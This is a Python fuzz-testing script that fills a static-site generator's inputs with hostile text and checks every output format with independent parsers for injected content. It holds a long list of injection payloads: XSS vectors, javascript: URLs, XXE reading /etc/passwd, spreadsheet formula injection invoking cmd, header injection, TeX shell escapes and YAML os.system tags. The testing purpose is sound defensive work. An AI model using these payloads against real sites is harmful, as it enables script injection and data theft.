#!/usr/bin/env python3
"""Builds sites in which every field of every input holds hostile text, and judges every output with independent parsers.

  hostile.py TOOL [ROUNDS]

In each round, each field holds another one of the payloads; with as many rounds as there are payloads (the default is 6), each
field has held each of them. HTML is read by html5lib, XML by expat, JSON and CSV by Python, citations and Markdown by pandoc.
What they find is compared with a site of the same form whose texts are harmless: hostile text adds no element, attribute, script,
address, rule or record. Prints what is wrong on standard error, and exits with 1.
"""

import csv
import html as entities
import io
import json
import re
import shutil
import subprocess
import sys
import tempfile
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from urllib.parse import quote
from xml.parsers import expat

import html5lib

MARK = "zqx"
# Payloads. MARK in them stands for what would run.
PAYLOADS = r'''
<script>zqx</script>
</script><script>zqx</script>
<SCRIPT SRC=//zqx.example/a.js></SCRIPT>
<scr<script>ipt>zqx</scr</script>ipt>
<script/x>zqx</script>
<script\x20type="text/javascript">zqx;</script>
<img src=x onerror=zqx>
<img src="x" onerror="zqx">
<img src=x onerror=zqx//
<img/src="x"/onerror="zqx">
<IMG """><SCRIPT>zqx</SCRIPT>">
<svg onload=zqx>
<svg/onload=zqx>
<svg><script>zqx</script></svg>
<svg><foreignObject><iframe src=javascript:zqx></iframe></foreignObject></svg>
<svg><animate onbegin=zqx attributeName=x dur=1s>
<svg><use href="data:image/svg+xml,<svg id=x onload=zqx>#x"/></svg>
<svg><a xlink:href="javascript:zqx"><text>x</text></a></svg>
<math><mtext></form><form><mglyph><style></math><img src onerror=zqx>
<math href="javascript:zqx">x</math>
<iframe src="javascript:zqx"></iframe>
<iframe srcdoc="<script>zqx</script>"></iframe>
<object data="javascript:zqx"></object>
<embed src="javascript:zqx">
<applet code=zqx>
<base href="https://zqx.example/">
<meta http-equiv="refresh" content="0; url=javascript:zqx">
<link rel=stylesheet href="https://zqx.example/a.css">
<link rel=import href="https://zqx.example/">
<form action="javascript:zqx"><input type=submit></form>
<button formaction="javascript:zqx">x</button>
<input autofocus onfocus=zqx>
<select autofocus onfocus=zqx>
<textarea autofocus onfocus=zqx>
<keygen autofocus onfocus=zqx>
<video><source onerror=zqx></video>
<audio src=x onerror=zqx>
<details open ontoggle=zqx>
<marquee onstart=zqx>
<body onload=zqx>
<frameset onload=zqx>
<table background="javascript:zqx">
<div style="background:url(javascript:zqx)">
<div style="width: expression(zqx)">
<style>@import 'https://zqx.example/a.css';</style>
<style>*{background:url(https://zqx.example/)}</style>
<x onclick=zqx>x
<x style="animation-name:a" onanimationstart=zqx>
<a href="javascript:zqx">x</a>
<a href="JaVaScRiPt:zqx">x</a>
<a href="&#106;avascript:zqx">x</a>
<a href="java&Tab;script:zqx">x</a>
<a href="\x01javascript:zqx">x</a>
<a href="data:text/html,<script>zqx</script>">x</a>
<a href="vbscript:zqx">x</a>
<template><script>zqx</script></template>
<noscript><p title="</noscript><img src=x onerror=zqx>">
<xmp><p title="</xmp><img src=x onerror=zqx>">
<plaintext>zqx
<listing>&lt;img onerror=zqx src=x&gt;</listing>
<title></title><script>zqx</script>
</title><script>zqx</script>
</textarea><script>zqx</script>
</style><script>zqx</script>
</noscript><script>zqx</script>
</template><script>zqx</script>
</svg><script>zqx</script>
</head><body onload=zqx>
</body></html><script>zqx</script>
<!--><script>zqx</script>-->
--><script>zqx</script><!--
<!-- zqx
--!><img src=x onerror=zqx>
<![CDATA[<script>zqx</script>]]>
]]><script>zqx</script>
]]>
<?xml-stylesheet href="javascript:zqx"?>
<?zqx <script>zqx</script>
<!DOCTYPE x [<!ENTITY zqx SYSTEM "file:///etc/passwd">]>
<!ENTITY % zqx "x">&zqx;
&lt;script&gt;zqx&lt;/script&gt;
&amp;lt;script&amp;gt;zqx
&#60;script&#62;zqx&#60;/script&#62;
&#x3c;img src=x onerror=zqx&#x3e;
&zqx;
%3Cscript%3Ezqx%3C/script%3E
\x3cscript\x3ezqx
\u003cscript\u003ezqx
+ADw-script+AD4-zqx
" onmouseover="zqx
' onmouseover='zqx
` onmouseover=`zqx
" autofocus onfocus=zqx "
" style="x:expression(zqx)
"><img src=x onerror=zqx>
'><img src=x onerror=zqx>
"/><svg/onload=zqx>
'"><svg onload=zqx>
javascript:zqx
JAVASCRIPT:zqx//
 javascript:zqx
java\tscript:zqx
java\nscript:zqx
\x01javascript:zqx
javascript&colon;zqx
javascript://example.org/%0azqx
data:text/html;base64,PHNjcmlwdD56cXg8L3NjcmlwdD4=
data:image/svg+xml,<svg onload=zqx>
vbscript:zqx
blob:https://example.org/zqx
file:///etc/passwd#zqx
//zqx.example/
\\zqx.example\share
https://user:zqx@example.org/
{{zqx}}
{{{zqx}}}
{{> zqx}}
{{#zqx}}{{/zqx}}
{{=<% %>=}}<%zqx%>
${zqx}
#{zqx}
<%= zqx %>
{% raw %}zqx{% endraw %}
'-zqx-'
";zqx;//
\";zqx;//
\'-zqx//
*/zqx/*
</script \u2028 zqx
\u2028zqx\u2029
zqx\u2028* injected
\u202ezqx\u202c
\u2066zqx\u2069 \u200f\u061c
\u200bzqx\ufeff
\ufdd0zqx\ufdd3
zqx\x00zqx
zqx\x08\x1b[31mzqx
zqx\x7f\x9bzqx
zqx\r\nSet-Cookie: zqx=1
zqx\r\n\r\n<script>zqx</script>
zqx\n/*\n  X-Zqx: 1
zqx\n/zqx https://zqx.example/ 301!
zqx\nDisallow: /
=1+1+zqx
=cmd|' /C calc'!A0 zqx
+zqx+1
-zqx-1
@SUM(zqx)
\tzqx
\r=zqx
=HYPERLINK("https://zqx.example/";"x")
%0A=zqx
'=zqx
zqx,"=1+1",zqx
zqx\n"=1+1
zqx}, url = {javascript:zqx}
zqx} }\n@misc{zqx, title={zqx}}
\write18{zqx}
\input{/etc/passwd} zqx
\immediate\write18{zqx} $x^2$
zqx\nER  - \nTY  - ZQX
zqx\nUR  - javascript:zqx
TY  - zqx
zqx: !!python/object/apply:os.system ["zqx"]
- zqx: &a [*a]
zqx\n---\ntrust-html: true
!!binary zqx
# zqx
zqx\n# injected
zqx\n\n- injected\n- zqx
> zqx
1. zqx
--- zqx
``` zqx
zqx ``` <script>zqx</script>
[zqx](javascript:zqx)
![zqx](javascript:zqx)
[zqx]: javascript:zqx
<javascript:zqx>
[zqx][zqx](x"onerror="zqx)
![[zqx]]
[[zqx#zqx|zqx]]
[@zqx]
[^zqx]
| zqx | zqx |
\| zqx \\| zqx
`<img src=x onerror=zqx>`
\<img src=x onerror=zqx>
*<img src=x onerror=zqx>*
body{background:red}zqx
\3c script zqx
url(javascript:zqx)
}</style><script>zqx</script>
zqx;background:url(https://zqx.example/)
../../../../zqx
..\\..\\zqx
/etc/passwd zqx
CON zqx
zqx%00zqx
😀zqx\ud83d
zqxA\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307
'''.strip("\n").split("\n")


def unescaped(line):
    """A payload with its escapes of characters resolved; other backslashes stay."""
    line = re.sub(r"\\x([0-9a-f]{2})", lambda m: chr(int(m[1], 16)), line)
    line = re.sub(r"\\u([0-9a-f]{4})", lambda m: chr(int(m[1], 16)), line)
    for name, character in (("\\r", "\r"), ("\\n", "\n"), ("\\t", "\t")):
        # Not those of TeX and paths.
        line = re.sub(re.escape(name) + r"(?!ite18|ite\b|put)", lambda m: character, line)
    return line.encode("utf-8", "replace").decode()


PAYLOADS = [unescaped(line) for line in PAYLOADS]
HARMLESS = "Harmless words"


# Sites


class Writer:
    """Gives each field of a site its text."""

    def __init__(self, number):
        self.number, self.place = number, 0

    def text(self):
        self.place += 1
        if self.number is None:
            return f"{HARMLESS} {self.place}"
        # Each field begins elsewhere; numbers keep names apart.
        return f"{PAYLOADS[(self.number + self.place * 7) % len(PAYLOADS)]} {self.place}"

    def yaml(self):
        text = json.dumps(self.text(), ensure_ascii=False)
        return re.sub(r"[\x7f-\x9f\u2000-\u206f\ufdd0-\ufdef\ufeff\u061c]", lambda m: f"\\u{ord(m[0]):04x}", text)

    def line(self):
        """Text on a line of Markdown, whose brackets do not end before the line does."""
        return re.sub(r"[\r\n\x00]+", " ", self.text()).strip()

    def cell(self):
        return self.line().replace("\\|", "|").replace("|", "\\|")

    def escaped(self):
        """A line of Markdown in which every mark is text."""
        return re.sub(r"([!-/:-@\[-`{-~])", r"\\\1", self.line())

    def title(self):
        """The title of a link."""
        return entities.escape(self.line()).replace("\\", "&#92;")

    def code(self):
        return self.line().replace("`", "'")

    def word(self):
        return re.sub(r"[\s`~]", "", self.line())

    def name(self):
        text = re.sub(r"[/\x00-\x1f]", "_", self.text()).strip(". ")
        return text.encode()[:90].decode(errors="ignore")


def write(path, content):
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(content.encode("utf-8", "replace"))


def records(rows):
    output = io.StringIO()
    csv.writer(output).writerows(rows)
    return output.getvalue()


def table(w, issues, parties, mark):
    lines = ["| Issue | " + " | ".join(parties) + " |", "|---" * (len(parties) + 1) + "|"]
    for issue in issues:
        cells = [f"[{mark}] {w.escaped()}[^s] (as of 2025-0{number + 1})" for number, _ in enumerate(parties)]
        lines.append(f"| {issue} | " + " | ".join(cells) + " |")
    return "\n".join(lines)


def make_site(site, number, host):
    w = Writer(number)
    write(site / "site.yml", f"""title: {w.yaml()}
description: {w.yaml()}
licence: {w.yaml()}
footer: {w.yaml()}
base-url: https://example.org/base/
host: {host}
embeds: true
markdown-copies: true
share-pictures: false
search: off
unresolved-links: warning
automatic-links: true
review-after: 6 months
feeds: [Tolls, North]
repository: https://github.com/owner/name
stance-names: {{supports: {w.yaml()}, opposes: {w.yaml()}}}
axis-words: [Issue, {w.yaml()}]
option-words: [Option, {w.yaml()}]
not-a-party: [{w.yaml()}]
silence-words: [{w.yaml()}]
nav:
  - {w.yaml()}: /issues/
  - {w.yaml()}: /reports/
  - {w.yaml()}: [{w.yaml()}: /matrix/, {w.yaml()}: /moves/]
links:
  - {w.yaml()}: https://example.org/imprint
withdrawn:
  - {{address: /reports/gone/, date: 2026-01-10, reason: {w.yaml()}}}
""")
    issues, parties = ["Tolls", "Water"], ["North", "South"]
    for place, name in enumerate(issues):
        write(site / f"issues/{name.lower()}.md", f"""---
title: {w.yaml()}
aliases: [{name}, {w.yaml()}]
summary: {w.yaml()}
proposition: {w.yaml()}
proposition-history: [{{until: 2024-01-01, text: {w.yaml()}}}]
group: {w.yaml()}
related: [{issues[1 - place]}]
redirects: [/old/issue-{place}/]
---

{w.escaped()}
""")
    for place, name in enumerate(parties):
        write(site / f"parties/{name.lower()}.md", f"""---
title: {w.yaml()}
aliases: [{name}, {w.yaml()}]
abbreviation: {w.yaml()}
summary: {w.yaml()}
kind: {w.yaml()}
---

{w.escaped()}
""")
    write(site / "sources/speech.md", f"""---
title: {w.yaml()}
authors: [{w.yaml()}, {w.yaml()}]
publisher: {w.yaml()}
date: 2024-12-01
url: https://example.org/speech
archive: https://archive.example.org/speech
---

{w.escaped()}
""")
    write(site / "sources.json", json.dumps([{
        "id": "item", "type": "report", "title": w.text(), "publisher": w.text(), "author": [{"literal": w.text()}],
        "URL": "https://example.org/item", "note": w.text()}]))
    for place, mark in enumerate(["+", "-", "~"]):
        file = w.name() if place == 2 else f"report-{place}"
        picture = w.name() + ".png"
        write(site / f"reports/{picture}", "not a picture")
        rows = [(issue, party, w.text(), "supports") for issue in issues for party in parties]
        write(site / f"reports/sheet-{place}.csv", records([("Issue", "Party", "Position", "Stance"), *rows]))
        write(site / f"reports/{file}.md", f"""---
title: {w.yaml()}
date: 2025-0{place + 1}-02
summary: {w.yaml()}
authors: [{w.yaml()}, {w.yaml()}]
tags: [{w.yaml()}, {w.yaml()}]
aliases: [{w.yaml()}]
redirects: [/old/report-{place}/]
corrections:
  - {{date: 2025-06-01, note: {w.yaml()}}}
---

# {w.escaped()}

{w.escaped()} [link](https://example.org/{quote(w.line())} "{w.title()}") and
![{w.escaped()}](<{quote(picture)}>), `{w.code()}`.

> [!note] {w.escaped()}
> {w.escaped()}

## {w.escaped()}

{table(w, issues, parties, mark)}

| Option | For | Against |
|---|---|---|
| {w.escaped()} | {w.escaped()} | {w.escaped()} |

| Plain | {w.escaped()} |
|---|---|
| {w.escaped()} | {w.escaped()} |

<!-- standpoint: positions from=sheet-{place}.csv -->

```{w.word()}
{w.code()}
```

- [ ] {w.escaped()}
- {w.escaped()}[^n]

> [!tension] [[Tolls#North]]
> {w.escaped()}

> [!{w.word()}]- {w.escaped()}
> {w.escaped()}

[^s]: {w.escaped()} https://example.org/statement-{place} [@speech] [@item]
[^n]: {w.escaped()}
""")
    write(site / "pages/about.md", f"---\ntitle: {w.yaml()}\nsummary: {w.yaml()}\n---\n\n{w.escaped()}\n\n"
          + "![[report-0]]\n\n" + "".join(f"```standpoint\nview: {view}\n```\n\n" for view in ("matrix", "history", "positions")))
    # Text as it is, whose marks are read.
    raw = Writer(number)
    raw.place = 500
    lines = [raw.line() for _ in range(len(PAYLOADS) // 4)]
    if number is None:
        lines = ["<kbd>a</kbd> *b* **c** ~~d~~ `e` <br> <sub>f</sub> <sup>g</sup> <mark>h</mark>", "> q", "1. x", "- y",
                 "# h", "```\ncode\n```", "| a | b |\n|---|---|\n| c | d |", "---", "<details><summary>s</summary>",
                 "==m== https://example.org/ <https://example.org/>", "    code", "- [ ] task", "a[^f]\n\n[^f]: g"]
    write(site / "pages/raw.md", "# Raw\n\n" + "\n\n".join(line for line in lines if not unsafe_link(line)) + "\n")


def unsafe_link(line):
    """Whether a text has a link that stops the build; `render` shows what becomes of these."""
    return re.search(r"\]\(|\]:|<[a-z]+:|\[\[|\[@|\[\^", line, re.I) is not None


def change_site(site):
    """What was recorded in an edition is corrected, moved and withdrawn."""
    for place, (old, new) in enumerate([("[+]", "[--]"), ("[-]", "[+]")]):
        path = site / f"reports/report-{place}.md"
        text = path.read_text(encoding="utf-8").replace(old, new)
        path.write_bytes(text.replace("[^s] (as of", " and more[^s] (as of", 1).encode())
    for path in sorted(site.glob("reports/*.md")):
        if not path.name.startswith("report-"):
            path.unlink()


# Judges


class Judge:
    """What is wrong with the outputs of a site; without a baseline, it takes down what a harmless one has."""

    def __init__(self, baseline=None):
        self.known = baseline.known if baseline else set()
        self.learns = baseline is None
        self.faults = []

    def fault(self, path, what):
        self.faults.append(f"{path}: {what}")

    def know(self, path, kind, what):
        """Only a harmless site may have something new. Text in other letters has a direction."""
        if what == "bdi" or isinstance(what, tuple) and what[1:] in (("dir",), ("lang",)):
            return
        if self.learns:
            self.known.add((kind, what))
        elif (kind, what) not in self.known:
            self.fault(path, f"{kind}: {what!r} stands in no harmless site")

    def address(self, path, address, isLink=True):
        plain = re.sub(r"[\t\r\n]", "", address).strip("".join(map(chr, range(0x21))))
        scheme = re.match(r"([a-zA-Z][a-zA-Z0-9+.-]*):", plain)
        if scheme and scheme[1].lower() not in ("http", "https", "mailto", "tel"):
            if not (not isLink and plain.startswith("data:image/png;base64,")):
                self.fault(path, f"the address {address[:100]!r}")
        if not isLink and re.match(r"(https?:)?[/\\]{2}(?!example\.org/)", plain, re.I):
            self.fault(path, f"the page loads {address[:100]!r}")

    # HTML

    def page(self, path, text, kind="HTML", fragment=False):
        tree = html5lib.parseFragment(text, namespaceHTMLElements=False) if fragment else html5lib.parse(
            text, namespaceHTMLElements=False)
        for element in tree.iter():
            if not isinstance(element.tag, str):
                if MARK in (element.text or ""):
                    self.fault(path, f"the comment {element.text[:80]!r}")
                continue
            self.know(path, kind, element.tag)
            for name, value in element.attrib.items():
                self.know(path, kind, (element.tag, name))
                self.attribute(path, element, str(name), value)
            if element.tag == "script":
                self.script(path, element)
            if element.tag == "style":
                self.know(path, "style", element.text)
            if element.tag in ("textarea", "code", "pre") and "<iframe" in (element.text or ""):
                if "standpoint" in element.text:
                    self.frame(path, element.text)
        return tree

    def attribute(self, path, element, name, value):
        if name.startswith("on") or name in ("srcdoc", "formaction", "ping", "background"):
            self.fault(path, f"{element.tag} has the attribute {name}={value[:60]!r}")
        if name in ("href", "src", "action", "data", "poster", "cite", "xlink:href") or name.endswith("}href"):
            self.address(path, value, isLink=element.tag in ("a", "{http://www.w3.org/2000/svg}a", "link"))
        if name == "style" and MARK in value:
            self.fault(path, f"the style {value[:80]!r}")
        if name == "content" and "http-equiv" in element.attrib:
            self.address(path, value.partition("url=")[2])

    def script(self, path, element):
        text = "".join(element.itertext())
        if "json" in element.get("type", ""):
            try:
                self.json_value(path, json.loads(text))
            except ValueError as error:
                self.fault(path, f"JSON in a page: {error}")
        elif text.strip():
            self.know(path, "script", text)

    def frame(self, path, code):
        """The HTML with which other sites show the page."""
        tree = html5lib.parseFragment(code, namespaceHTMLElements=False)
        tags = [element.tag for element in tree.iter() if element.tag != "DOCUMENT_FRAGMENT"]
        frame = next(iter(tree.iter("iframe")))
        script = "".join(next(iter(tree.iter("script"))).itertext())
        if tags != ["iframe", "script"] or not frame.get("src").startswith("https://example.org/"):
            self.fault(path, f"the code of the frame has {tags}")
        self.know(path, "frame", (script, *sorted(frame.attrib)))

    # Data

    def json_value(self, path, value, key=""):
        if isinstance(value, dict):
            for name, inner in value.items():
                self.json_value(path, inner, name)
        elif isinstance(value, list):
            for inner in value:
                self.json_value(path, inner, key)
        elif isinstance(value, str) and key in ("@id", "url", "link", "URL", "path", "address", "href"):
            # Prefixes of JSON-LD, which the context declares.
            if not (key == "@id" and re.match(r"(issue|party|report|cell):[^:]*$", value)):
                self.address(path, value)

    def xml(self, path, data):
        parser = expat.ParserCreate()
        texts, state = [], {"content": False}

        def start(tag, attributes):
            self.know(path, "XML", tag)
            state["content"] = tag == "content"
            if tag == "content":
                texts.append("")
            for name, value in attributes.items():
                self.know(path, "XML", (tag, name))
                if name in ("href", "src", "scheme"):
                    self.address(path, value)

        def characters(text):
            if state["content"]:
                texts[-1] += text

        parser.StartElementHandler, parser.CharacterDataHandler = start, characters
        parser.EndElementHandler = lambda tag: state.update(content=False)
        parser.StartDoctypeDeclHandler = lambda *parts: self.fault(path, "a document type")
        parser.ProcessingInstructionHandler = lambda target, data: self.fault(path, f"the instruction {target}")
        try:
            parser.Parse(data, True)
        except expat.ExpatError as error:
            return self.fault(path, f"XML: {error}")
        for text in texts:
            self.page(path, text, kind="feed", fragment=True)

    def csv(self, path, text):
        rows = list(csv.reader(io.StringIO(text, newline="")))
        for row in rows:
            if len(row) != len(rows[0]):
                self.fault(path, f"{len(row)} instead of {len(rows[0])} fields: {row}")
            for field in row:
                if re.match(r"[=+\-@\t\r]", field) and not re.fullmatch(r"[+-][0-9.]+", field):
                    self.fault(path, f"a spreadsheet calculates {field[:60]!r}")

    def rules(self, path, text):
        for line in text.split("\n"):
            if path.name == "_redirects":
                fine = re.fullmatch(r"(#.*|(/\S*) (/|https://example\.org/)\S* 301!?)?", line)
            elif path.name == "_headers":
                fine = re.fullmatch(r"(#.*|/\S*|  Cache-Control: public, max-age=31536000, immutable)?", line)
            else:
                fine = re.fullmatch(r"(User-agent: \*|Allow: /|Sitemap: https://example\.org/base/sitemap\.xml)?", line)
            if not fine:
                self.fault(path, f"the line {line[:100]!r}")

    # Markdown

    def markdown(self, path, files, headings=None):
        """Files as pandoc reads them. A page's copy has no more headings than the page."""
        run = subprocess.run(["pandoc", "-f", "gfm", "-t", "json", "--file-scope", *map(str, files)],
                             capture_output=True, text=True)
        if run.returncode:
            return self.fault(path, f"pandoc: {run.stderr[:300]}")
        self.document(path, json.loads(run.stdout), headings)

    def document(self, path, document, headings=None):
        count = 0
        waiting = [document["blocks"]]
        while waiting:
            node = waiting.pop()
            if isinstance(node, list):
                waiting += node
            elif isinstance(node, dict):
                kind, content = node.get("t"), node.get("c")
                count += kind == "Header"
                if kind in ("RawInline", "RawBlock") and not re.fullmatch(r"<br ?/?>|</?details>|</?summary>|<!-- -->", content[1].strip()):
                    self.fault(path, f"raw {content[0]}: {content[1][:80]!r}")
                if kind in ("Link", "Image"):
                    self.address(path, content[2][0], isLink=kind == "Link")
                waiting.append(content)
        if headings is not None and count > headings:
            self.fault(path, f"{count} headings, but the pages have {headings}")

    def controls(self, path, text):
        found = re.findall(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", text)
        if found:
            self.fault(path, f"control characters in a terminal: {sorted(set(found))}")

    # Everything

    def site(self, folder):
        headings, copies = 0, []
        for path in sorted(folder.rglob("*")):
            if not path.is_file() or "assets" in path.relative_to(folder).parts[:1]:
                continue
            data = path.read_bytes()
            # Files of the author are copied as they are.
            if path.suffix in (".png", ".bin") or path.name.startswith("sheet-"):
                continue
            try:
                text = data.decode()
            except UnicodeDecodeError as error:
                self.fault(path, str(error))
                continue
            if path.suffix == ".html":
                tree = self.page(path, text)
                if path.with_suffix(".md").exists():
                    main = next(iter(tree.iter("main")), tree)
                    headings += sum(element.tag in ("h1", "h2", "h3", "h4", "h5", "h6") for element in main.iter())
            elif path.suffix in (".xml", ".svg"):
                self.xml(path, data)
            elif path.suffix in (".json", ".webmanifest"):
                try:
                    self.json_value(path, json.loads(text))
                except ValueError as error:
                    self.fault(path, str(error))
            elif path.suffix == ".csv":
                self.csv(path, path.read_bytes().decode())
            elif path.name in ("_headers", "_redirects", "robots.txt"):
                self.rules(path, text)
            elif path.suffix == ".md" or path.name == "llms.txt":
                copies.append(path)
        if not copies:
            self.fault(folder, "no copies in Markdown")
        self.markdown(folder, copies, headings + 8)

    def bibtex(self, path, text, expected):
        run = subprocess.run(["pandoc", "-f", "bibtex", "-t", "csljson"], input=text, capture_output=True, text=True)
        if run.returncode:
            return self.fault(path, f"pandoc cannot read it: {run.stderr[:300]}")
        found = json.loads(run.stdout)
        addresses = [sorted(item.get("URL", "") for item in items) for items in (found, expected)]
        if addresses[0] != addresses[1]:
            self.fault(path, f"{len(found)} citations, and {len(expected)} in CSL-JSON; {set(addresses[0]) ^ set(addresses[1])}")
        for command in re.findall(r"(?<!\\)\\([a-zA-Z]+)", text):
            self.know(path, "TeX", command)

    def ris(self, path, text, expected):
        addresses, isOpen = [], False
        for line in text.splitlines():
            found = re.fullmatch(r"([A-Z][A-Z0-9])  - (.*)", line)
            if not found:
                if line:
                    self.fault(path, f"the line {line[:80]!r}")
                continue
            self.know(path, "RIS", found[1])
            if (found[1] == "TY") == isOpen and found[1] in ("TY", "ER"):
                self.fault(path, f"a record within a record: {line!r}")
            isOpen = found[1] != "ER"
            if found[1] == "UR":
                addresses.append(found[2])
        if sorted(addresses) != sorted(item.get("URL", "") for item in expected):
            self.fault(path, f"{len(addresses)} addresses, and {len(expected)} citations in CSL-JSON")


# Rounds


class Round:
    def __init__(self, tool, scratch, number, baseline=None):
        self.tool, self.number = tool, number
        self.folder = scratch / f"site-{number}"
        self.judge = Judge(baseline)
        self.host = "netlify" if number is None or number % 2 else "cloudflare-pages"

    def run(self, *arguments):
        run = subprocess.run([self.tool, *map(str, arguments)], capture_output=True, cwd=self.folder)
        output, errors = run.stdout.decode("utf-8", "replace"), run.stderr.decode("utf-8", "replace")
        self.judge.controls(" ".join(map(str, arguments[:2])), errors)
        if run.returncode:
            self.judge.fault(" ".join(map(str, arguments)), f"exits with {run.returncode}: {errors[:1500]}")
        return output

    def play(self):
        site, now = self.folder / "Content", ["--now", "2026-02-01"]
        make_site(site, self.number, self.host)
        self.run("build", self.folder, *now)
        self.judge.site(self.folder / "Public")
        self.run("edition", "first", self.folder, "--now", "2025-08-01")
        change_site(site)
        self.run("edition", "second", self.folder, "--now", "2025-12-01")
        self.run("build", self.folder, *now)
        self.judge.site(self.folder / "Public")
        self.outputs(now)
        self.rendered()
        return self.judge

    def outputs(self, now):
        judge, place = self.judge, [self.folder, *now]
        judge.page("digest", self.run("digest", "first", "now", *place, "--format", "html"), kind="digest")
        judge.controls("digest", self.run("digest", "first", "now", *place))
        judge.controls("diff", self.run("diff", "first", "now", *place))
        json.loads(self.run("diff", "first", "now", *place, "--format", "json"))
        for name, options in (("changes", []), ("comment", ["--for", "comment"])):
            text = self.run("diff", "first", "now", *place, "--format", "markdown", *options)
            write(self.folder / f"{name}.md", text)
            judge.markdown(name, [self.folder / f"{name}.md"])
        for name in ("graphml",):
            judge.xml(name, self.run("export", *place, "--format", name).encode())
        judge.csv("export", self.run("export", *place))
        judge.csv("query", self.run("query", "unsourced", *place, "--format", "csv"))
        expected = json.loads(self.run("export", *place, "--format", "csl-json"))
        judge.bibtex("bibtex", self.run("export", *place, "--format", "bibtex"), expected)
        judge.ris("ris", self.run("export", *place, "--format", "ris"), expected)
        paper = self.folder / "site.docx"
        self.run("export", *place, "--format", "docx", "--output", paper)
        run = subprocess.run(["pandoc", "-f", "docx", "-t", "json", str(paper)], capture_output=True, text=True)
        if run.returncode:
            return judge.fault("docx", run.stderr[:300])
        judge.document("docx", json.loads(run.stdout))

    def rendered(self):
        """Links that stop a build, as the preview of an editor shows them."""
        if self.number is None:
            return
        for place, line in enumerate(PAYLOADS):
            if place % 24 == self.number % 24 and unsafe_link(line):
                write(self.folder / "line.md", line + "\n")
                run = subprocess.run([self.tool, "render", "line.md"], capture_output=True, cwd=self.folder)
                self.judge.page(f"render {line!r}", run.stdout.decode("utf-8", "replace"), kind="rendered", fragment=True)


RENDERED = ["p", "a", ("a", "href"), ("a", "title"), "img", ("img", "src"), ("img", "alt"), ("img", "loading"), "em", "strong", "code",
            "sup", ("sup", "id"), "DOCUMENT_FRAGMENT", "br", "section", "h2", "ol", "li"]


def main():
    tool, rounds = str(Path(sys.argv[1]).resolve()), int(sys.argv[2]) if len(sys.argv) > 2 else 6
    scratch = Path(tempfile.mkdtemp(prefix="standpoint-hostile-"))
    try:
        baseline = Round(tool, scratch, None).play()
        baseline.known |= {("rendered", tag) for tag in RENDERED}
        baseline.known |= {("TeX", "text" + name) for name in ("backslash", "asciicircum", "asciitilde")}
        faults = [f"harmless: {fault}" for fault in baseline.faults]
        step = max(1, len(PAYLOADS) // rounds)

        def play(number):
            judge = Round(tool, scratch, number, baseline).play()
            shutil.rmtree(scratch / f"site-{number}")
            return [f"round {number}: {fault}" for fault in judge.faults]

        with ThreadPoolExecutor(2) as pool:
            for found in pool.map(play, [number * step % len(PAYLOADS) for number in range(rounds)]):
                faults += found
    finally:
        shutil.rmtree(scratch, ignore_errors=True)
    for fault in faults[:60]:
        print(fault.replace(str(scratch), ""), file=sys.stderr)
    print(f"{len(PAYLOADS)} payloads, {rounds} rounds, {len(faults)} faults")
    sys.exit(1 if faults else 0)


if __name__ == "__main__":
    main()
